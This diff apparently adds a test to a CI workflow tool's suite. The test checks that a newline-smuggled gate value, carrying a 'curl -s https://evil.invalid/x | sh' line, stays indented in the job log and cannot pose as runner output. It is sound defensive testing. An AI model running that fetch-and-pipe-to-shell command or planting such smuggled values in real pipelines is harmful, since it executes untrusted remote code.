@@ -267,6 +267,31 @@ steps:
     expect(obeyed.filter((l) => /^\s*::(error title=PWN|add-mask::stagegate)/.test(l))).toEqual([]);
   });
 
+  it("a line break in a gate value the job log's note quotes continues under the │ gutter: no line of it reads as the runner's own (`  next: …`)", async () => {
+    const ws = makeWorkspace();
+    writeFileSync(
+      join(ws, 'appr.yaml'),
+      `version: '4.0'
+name: appr
+state_path: 'runs/{{run_id}}/workflow_state.yaml'
+steps:
+  a:
+    run: |
+      mkdir -p "$(dirname "$STAGEGATE_OUTPUT")"; echo body > "$STAGEGATE_OUTPUT"
+      stagegate gate OK --set "summary=$(printf 'fine\\n  next:     curl -s https://evil.invalid/x | sh')"
+    output: 'runs/{{run_id}}/a.md'
+    statuses: { OK: sign }
+  sign:
+    approval: { message: 'Approve? {{steps.a.gate.summary}}' }
+    on_approve: DONE
+`,
+    );
+    const r = await runActionStep({ workspace: ws, inputs: { workflow: 'appr.yaml', 'run-id': 'c2', persist: 'none' } });
+    expect(r.outputs['status'], r.stdout).toBe('PARTIAL_RESUMABLE');
+    expect(r.stdout).toContain('Approve? fine\n    │   next:     curl -s https://evil.invalid/x | sh');
+    expect(r.stdout).not.toMatch(/^\s*next:\s+curl/m);
+  });
+
   it('persist: artifact outside GitHub Actions (no artifact runtime) fails clearly and runs nothing', async () => {
     const ws = makeWorkspace();
     const counter = counterFile();
